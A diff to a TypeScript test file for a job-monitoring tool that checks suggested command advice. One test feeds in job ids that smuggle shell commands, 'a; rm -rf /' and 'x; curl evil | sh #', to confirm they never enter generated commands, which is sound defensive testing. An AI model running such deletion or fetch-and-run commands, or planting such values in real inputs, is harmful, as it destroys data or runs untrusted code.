@@ -57,8 +57,8 @@ test('jobs are counted by type, and unknown ones come before failed ones, each n
     { type: 'score', done: 0, failed: 1, unknown: 0 },
   ]);
   expect(attention.map(({ id }) => id)).toEqual(['c', 'b', 'may.chunk-00001', 'a']);
-  expect(attention[0]?.advice).toContain('platform-sync jobs resolve c done');
-  expect(attention[2]?.advice).toContain('platform-sync redrive --batch may');
+  expect(attention[0]?.advice).toContain("platform-sync jobs resolve --note 'WHAT YOU SAW' c done");
+  expect(attention[2]?.advice).toContain('platform-sync redrive --batch=may');
   expect(attention[3]).toMatchObject({ attempts: 2, reason: 'status: a 500' });
   expect(batchEnds.get('may')).toBe(Date.parse('2026-11-18T10:00:00.000Z'));
   expect([faults, isCut]).toEqual([[], false]);
@@ -124,17 +124,18 @@ test('of a large result only its beginning is read, and what is no result is nam
   ]);
 });
 
-test('an id that is no word of a command is not put into one', async () => {
+test('an id that is not one of a job is not put into a command', async () => {
   const store = createMemoryStore();
   await put(
     store,
     'run-function/dt=2026-11-18/x',
-    result('a; rm -rf /', 'unknown', '2026-11-18T10:00:00.000Z'),
+    result('x; curl evil | sh #', 'unknown', '2026-11-18T10:00:00.000Z'),
   );
 
   const { attention } = await read(store);
 
-  expect(attention[0]?.advice).toContain('jobs resolve ID done');
+  expect(attention[0]).toMatchObject({ id: 'x; curl evil | sh #' });
+  expect(attention[0]?.advice).not.toMatch(/platform-sync |curl/);
 });
 
 test('however many jobs have failed since, an unknown one is listed', async () => {
